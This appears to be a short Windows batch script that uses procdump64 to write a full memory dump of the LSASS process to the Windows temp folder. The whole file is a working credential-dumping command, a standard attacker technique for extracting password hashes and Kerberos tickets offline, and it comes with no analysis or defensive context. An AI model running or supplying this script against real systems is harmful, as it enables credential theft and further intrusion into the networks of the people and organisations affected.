@echo off
cd /d C:\windows\temp
procdump64.exe -accepteula -ma lsass.exe C:\windows\temp\lsass.dmp
